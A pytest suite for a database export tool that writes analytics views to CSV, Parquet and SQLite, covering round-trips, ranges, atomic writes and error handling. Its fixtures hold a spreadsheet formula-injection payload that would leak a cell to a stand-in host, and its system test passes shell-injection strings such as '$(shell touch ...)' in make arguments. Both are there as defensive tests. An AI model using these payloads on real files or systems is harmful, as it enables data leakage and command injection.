"""An export is the rows of the database, in each format, whole or not at all; a wrong request says why."""

from __future__ import annotations

import csv
import datetime
import os
import random
import re
import resource
import signal
import sqlite3
import subprocess
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import duckdb
import psycopg
import pytest

from tests.conftest import Database, cloned
from tests.history import make_history, settings_of, store
from tests.make import make_hit
from tests.system.stack import ROOT, Stack, wait_until
from tools.arguments import BadRequest
from tools.export.request import Request, request_of
from tools.export.staging import staged
from tools.servers import Postgres

pytestmark = pytest.mark.servers

DAYS = [datetime.date(2026, 11, day) for day in range(1, 5)]
FORMULA = '=HYPERLINK("https://x.example/?leak="&A1,"click")'
# What a file could garble: quotes, commas, lines, an empty text beside none, backslashes, another script, a formula.
TITLES = (
    'a "quoted", title',
    "two\nlines\r\nand more",
    "\\.",
    "\\N",
    "Ünïcödé 日本 🦆",
    FORMULA,
    "  =1+1",
    "NULL",
)


@pytest.fixture(scope="module")
def counted(postgres: Postgres, template_database: str) -> Iterator[Database]:
    """A database with a history; the tests only read it."""
    with cloned(postgres, template_database) as database:
        odd = [
            make_hit(day=DAYS[0], path=f"/odd/{number}", title=title, query="", session_id=uuid.UUID(int=number),
                     received_at=datetime.datetime(2026, 11, 1, 12, 0, number, 120, datetime.UTC))
            for number, title in enumerate(TITLES)
        ]  # fmt: skip
        store(settings_of(database.owner_url), make_history(random.Random(10), DAYS, 40), odd)
        yield database


def command(database: Database, **asked: str) -> tuple[list[str], dict[str, str]]:
    """The tool's command and its environment, as the role `analyst`."""
    environ = {**os.environ, "PYTHONPATH": str(ROOT), "DATABASE_URL": database.role_url("analyst"), **asked}
    return [sys.executable, "-m", "tools.export"], environ


def export(database: Database, folder: Path, **asked: str) -> subprocess.CompletedProcess[str]:
    words, environ = command(database, **asked)
    return subprocess.run(
        words, cwd=folder, env=environ, capture_output=True, text=True, timeout=60, check=False
    )


def exported(database: Database, folder: Path, **asked: str) -> Path:
    """The path that the tool says it wrote."""
    done = export(database, folder, **asked)
    assert done.returncode == 0, done.stderr
    return folder / done.stdout.partition(": ")[0]


def rows(database: Database, view: str, where: str = "true") -> list[tuple[Any, ...]]:
    """The view as the database has it."""
    with database.connect("analyst") as connection:
        return connection.execute(f"select * from {view} where {where}").fetchall()  # type: ignore[arg-type]


def views(database: Database) -> list[str]:
    with database.connect() as connection:
        found = connection.execute(
            "select relname from pg_class where relkind = 'v' and relname ~ '^(hits$|daily_|hourly_)' order by 1"
        )
        return [name for (name,) in found]


def in_any_order(found: list[tuple[Any, ...]]) -> list[tuple[Any, ...]]:
    return sorted(found, key=repr)


# Each format, row by row -----------------------------------------------------------------------------------------


def test_csv_reads_back_into_postgresql_as_it_was(counted: Database, tmp_path: Path) -> None:
    path = exported(counted, tmp_path)
    with counted.connect() as connection:
        connection.execute("create temporary table again (like hits)")
        with (
            connection.cursor() as cursor,
            cursor.copy("copy again from stdin (format csv, header match)") as copy,
        ):
            copy.write(path.read_bytes())
        for one, other in (("hits", "again"), ("again", "hits")):
            assert (
                connection.execute(f"select * from {one} except all select * from {other}").fetchall() == []
            )
        assert connection.execute("select count(*) from again").fetchone() == (len(rows(counted, "hits")),)


def test_csv_is_as_rfc_4180_has_it(counted: Database, tmp_path: Path) -> None:
    data = exported(counted, tmp_path, FROM="2026-11-01", TO="2026-11-01").read_bytes()
    assert data.endswith(b"\r\n")
    assert not data.startswith(b"\xef\xbb\xbf")
    [head, *found] = csv.reader(data.decode("utf-8").splitlines(keepends=True))
    assert head[:4] == ["hit_id", "session_id", "received_at", "batch_id"]
    assert {len(row) for row in found} == {len(head)}
    by_path = {row[head.index("path")]: row for row in found}
    assert [by_path[f"/odd/{n}"][head.index("title")] for n in range(len(TITLES))] == list(TITLES)
    assert by_path["/odd/3"][head.index("received_at")] == "2026-11-01T12:00:03.000120+00:00"
    [line] = [line for line in data.split(b"\r\n") if b"/odd/4" in line]
    assert b'/odd/4,"",' in line, "an empty text is told from none"
    times = [row[head.index("received_at")] for row in found]
    assert times == sorted(times)


def parquet(path: Path) -> tuple[dict[str, str], list[tuple[Any, ...]]]:
    """The types of a file's columns, and its rows; times as text, which DuckDB hands out by a library not here."""
    with duckdb.connect() as reader:
        reader.execute("set timezone = 'UTC'")
        described = reader.execute(f"describe select * from '{path}'").fetchall()
        types = {name: kind for name, kind, *_ in described}
        names = [f"{name}::varchar" if "TIME ZONE" in kind else name for name, kind in types.items()]
        return types, reader.execute(f"select {', '.join(names)} from '{path}'").fetchall()


def test_every_view_as_parquet_has_the_rows_and_the_types(counted: Database, tmp_path: Path) -> None:
    folder = exported(counted, tmp_path, VIEW="all", FORMAT="parquet")
    assert sorted(path.stem for path in folder.iterdir()) == views(counted)
    for view in views(counted):
        types, found = parquet(folder / f"{view}.parquet")
        assert in_any_order(_as_postgres(found)) == in_any_order(_as_postgres(rows(counted, view))), view
    types, _ = parquet(folder / "hits.parquet")
    assert types == types | {
        "hit_id": "UUID", "received_at": "TIMESTAMP WITH TIME ZONE", "day": "DATE", "status": "SMALLINT",
        "is_bot": "BOOLEAN", "props": "JSON", "country": "VARCHAR",
    }  # fmt: skip


def _as_postgres(found: list[tuple[Any, ...]]) -> list[tuple[Any, ...]]:
    """Times in UTC, and JSON as text without the spaces that PostgreSQL writes."""

    def plain(value: Any) -> Any:
        if isinstance(value, datetime.datetime):
            return value.astimezone(datetime.UTC)
        if isinstance(value, dict):
            return ",".join(f"{name}={value[name]}" for name in sorted(value))
        if isinstance(value, str) and re.fullmatch(r"2026-11-.*\+00", value):
            return datetime.datetime.fromisoformat(value)
        if isinstance(value, str) and value.startswith("{"):
            return re.sub(r'[{}" ]', "", value).replace(":", "=")
        return value

    return [tuple(map(plain, row)) for row in found]


def test_every_view_as_sqlite_has_the_rows_and_what_they_mean(counted: Database, tmp_path: Path) -> None:
    path = exported(counted, tmp_path, VIEW="all", FORMAT="sqlite")
    with sqlite3.connect(path) as reader:
        names = [
            name
            for (name,) in reader.execute("select name from sqlite_master where type = 'table' order by 1")
        ]
        assert names == sorted([*views(counted), "about"])
        for view in views(counted):
            wanted = [tuple(map(_as_sqlite, row)) for row in rows(counted, view)]
            assert in_any_order(
                _as_postgres(reader.execute(f"select * from {view}").fetchall())
            ) == in_any_order(_as_postgres(wanted)), view
        about = "select meaning from about where table_name = 'daily_pages' and column_name is ?"
        assert reader.execute(about, [None]).fetchone() == ("Pageviews and visitors of each page and day.",)
        assert "never over pages" in reader.execute(about, ["visitors"]).fetchone()[0]
    reader.close()


def _as_sqlite(value: Any) -> Any:
    if isinstance(value, datetime.datetime):
        return value.astimezone(datetime.UTC).isoformat(timespec="microseconds")
    if isinstance(value, datetime.date | uuid.UUID):
        return str(value)
    return value


# Ranges, and where it goes ---------------------------------------------------------------------------------------


def test_a_range_and_a_site_are_what_is_written(counted: Database, tmp_path: Path) -> None:
    asked = {"FROM": "2026-11-02", "TO": "2026-11-03", "SITE": "shop.example"}
    where = "day between '2026-11-02' and '2026-11-03' and site = 'shop.example'"
    for view in ("hits", "daily_pages"):
        path = exported(counted, tmp_path, VIEW=view, **asked)
        assert path.name == f"{view}-2026-11-02-2026-11-03.csv"
        with path.open(newline="") as file:
            assert len(list(csv.reader(file))) - 1 == len(rows(counted, view, where)) > 0
    path = exported(counted, tmp_path, FROM="2027-01-01")
    assert path.read_bytes().count(b"\r\n") == 1, "a header alone"


def test_standard_output_has_the_file_and_nothing_else(counted: Database, tmp_path: Path) -> None:
    path = exported(counted, tmp_path, VIEW="daily_traffic", OUT="traffic.csv")
    words, environ = command(counted, VIEW="daily_traffic", OUT="-")
    longer = tmp_path / "longer"
    longer.write_bytes(b"what was there\n")
    with longer.open("ab") as file:
        subprocess.run(words, cwd=tmp_path, env=environ, stdout=file, timeout=60, check=True)
    assert longer.read_bytes() == b"what was there\n" + path.read_bytes()
    assert sorted(tmp_path.iterdir()) == [longer, path]


def test_standard_output_that_nobody_reads_ends_it(counted: Database, tmp_path: Path) -> None:
    words, environ = command(counted, OUT="-")
    with subprocess.Popen(words, env=environ, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
        assert process.stdout and process.stderr
        process.stdout.close()
        assert process.stderr.read().endswith(b"standard output: nobody reads it any more\n")
    assert process.returncode == 1


def test_a_spreadsheet_computes_nothing(counted: Database, tmp_path: Path) -> None:
    data = exported(counted, tmp_path, SPREADSHEET="1").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    cells = [cell for row in csv.reader(data.decode("utf-8-sig").splitlines(keepends=True)) for cell in row]
    assert {"'" + FORMULA, "'  =1+1"} <= set(cells)
    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))]


def test_what_is_there_is_replaced_by_the_whole_of_the_new(counted: Database, tmp_path: Path) -> None:
    (tmp_path / "hits.csv").write_text("of last week")
    (tmp_path / ".hits.csv.part").mkdir()
    (tmp_path / ".hits.csv.part/hits.csv").write_text("of one that was killed")
    assert exported(counted, tmp_path, OUT=".").read_text().startswith("hit_id,")
    assert [path.name for path in tmp_path.iterdir()] == ["hits.csv"]


def test_what_is_stored_meanwhile_is_not_in_it(counted: Database, tmp_path: Path) -> None:
    words, environ = command(counted, OUT="hits.csv")
    with counted.connect() as owner, counted.connect() as writer:
        with owner.transaction():
            owner.execute(
                "lock table pages in access exclusive mode"
            )  # in the middle of it, the export waits
            process = subprocess.Popen(words, cwd=tmp_path, env=environ, stderr=subprocess.DEVNULL)
            wait_until(lambda: writer.execute("select from pg_locks where not granted").fetchall())
            before = writer.execute("select count(*) from stored_hits").fetchone()
            writer.execute(  # of a day that it has not come to
                "create temporary table more as select * from stored_hits where day = %s limit 1", [DAYS[-1]]
            )
            writer.execute("update more set hit_id = gen_random_uuid()")
            writer.execute("insert into stored_hits table more")
        try:
            assert process.wait(30) == 0
            with (tmp_path / "hits.csv").open(newline="") as file:
                assert (len(list(csv.reader(file))) - 1,) == before
        finally:
            writer.execute("delete from stored_hits where hit_id in (select hit_id from more)")


# What goes wrong -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("asked", "words"),
    [
        ({"VIEW": "hitz"}, "VIEW: there is no 'hitz'; there are daily_bot_pages, "),
        ({"SITE": "blgo.example"}, "SITE: there is none of that name; some are: blog.example, shop.example"),
        ({"FROM": "yesterday"}, "FROM: write a day as 2026-11-22"),
    ],
)
def test_what_cannot_be_is_said(counted: Database, tmp_path: Path, asked: dict[str, str], words: str) -> None:
    done = export(counted, tmp_path, **asked)
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr.startswith(words)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("asked", "words"),
    [
        ({"FORMAT": "xlsx"}, "FORMAT: one of csv, parquet, sqlite"),
        ({"FROM": "2026-11-02", "TO": "2026-11-01"}, "TO: it is before FROM"),
        ({"TO": "2026-11-31"}, "TO: write a day as"),
        ({"SITE": "\udcff"}, "SITE: it is not UTF-8"),
        ({"OUT": "-", "VIEW": "all"}, "OUT=-: only one view as CSV"),
        ({"OUT": "-", "FORMAT": "sqlite"}, "OUT=-: only one view as CSV"),
        ({"SPREADSHEET": "1", "FORMAT": "parquet"}, "SPREADSHEET: it is for CSV"),
    ],
)
def test_what_nobody_can_mean_is_said_before_anything(asked: dict[str, str], words: str) -> None:
    with pytest.raises(BadRequest, match=words):
        request_of(asked)


def test_a_folder_with_something_in_it_is_left_alone(tmp_path: Path) -> None:
    (tmp_path / "mine.txt").touch()
    with pytest.raises(BadRequest, match="is there and not an empty folder"):
        request_of({"VIEW": "all", "OUT": str(tmp_path)})
    assert request_of({"VIEW": "all", "OUT": str(tmp_path / "new")}).path == tmp_path / "new"
    assert Request(out=str(tmp_path), format="parquet").path == tmp_path / "hits.parquet"


@pytest.mark.parametrize("form", ["csv", "parquet", "sqlite"])
def test_a_full_disk_is_said_and_leaves_nothing(counted: Database, tmp_path: Path, form: str) -> None:
    words, environ = command(counted, FORMAT=form)

    def no_room() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (4_096, 4_096))

    done = subprocess.run(
        words,
        cwd=tmp_path,
        env=environ,
        capture_output=True,
        text=True,
        timeout=60,
        preexec_fn=no_room,
        check=False,
    )
    assert done.returncode == 1, done.stderr
    assert f"exports/hits.{form} could not be written: " in done.stderr
    assert "Traceback" not in done.stderr
    assert list((tmp_path / "exports").iterdir()) == []


@pytest.mark.parametrize(
    ("form", "number"), [("csv", signal.SIGINT), ("parquet", signal.SIGTERM), ("sqlite", signal.SIGHUP)]
)
def test_one_that_is_ended_leaves_nothing(
    counted: Database, tmp_path: Path, form: str, number: signal.Signals
) -> None:
    words, environ = command(counted, FORMAT=form, OUT="hits")
    with counted.connect() as owner, counted.connect() as onlooker, owner.transaction():
        owner.execute("lock table pages in access exclusive mode")  # in the middle of it, the export waits
        # What a shell runs in the background ignores Ctrl-C; these tests may be run so.
        words = ["env", "--default-signal=INT", *words]
        process = subprocess.Popen(words, cwd=tmp_path, env=environ, stderr=subprocess.PIPE, text=True)
        wait_until(lambda: onlooker.execute("select from pg_locks where not granted").fetchall())
        assert [path.name for path in tmp_path.iterdir()] == [".hits.part"]
        process.send_signal(number)
        _, said = process.communicate(timeout=20)
    assert process.returncode == 1
    assert said.endswith("ended. Nothing was left behind.\n")
    assert "rollback" not in said
    assert list(tmp_path.iterdir()) == []


def test_two_do_not_write_to_one_place(tmp_path: Path) -> None:
    with staged(tmp_path / "a") as path:
        path.write_text("first")
        with pytest.raises(BadRequest, match="another export is writing"), staged(tmp_path / "a"):
            pass
    assert (tmp_path / "a").read_text() == "first"


def test_a_database_that_is_away_is_said(tmp_path: Path, counted: Database) -> None:
    done = export(counted, tmp_path, DATABASE_URL="postgresql://analyst:secret@127.0.0.1:1/footfall")
    assert done.returncode == 1
    said = "PostgreSQL (host 127.0.0.1 port 1 dbname footfall): OperationalError. Nothing was left behind.\n"
    assert done.stderr == said


def test_the_role_may_take_longer_than_a_question(counted: Database, tmp_path: Path) -> None:
    name = counted.name
    with counted.connect() as owner:
        owner.execute(f"alter role analyst in database {name} set statement_timeout = '1ms'")
        try:
            with pytest.raises(psycopg.errors.QueryCanceled):
                rows(counted, "hits")
            assert exported(counted, tmp_path).exists()
        finally:
            owner.execute(f"alter role analyst in database {name} reset statement_timeout")


@pytest.mark.system
def test_make_export_beside_a_running_stack(stack: Stack, tmp_path: Path) -> None:
    path, mark = tmp_path / "it's $(date) `date` $$.csv", tmp_path / "ran"
    said = stack.make("export", "VIEW=daily_traffic", f"OUT={path}").stdout
    assert said.startswith(f"{path}: ")
    assert path.read_text().startswith("site,day,day_starts_at,pageviews,visitors")
    assert stack.make("export", f"SITE=$(shell touch {mark})", check=False).returncode == 2
    assert not mark.exists()
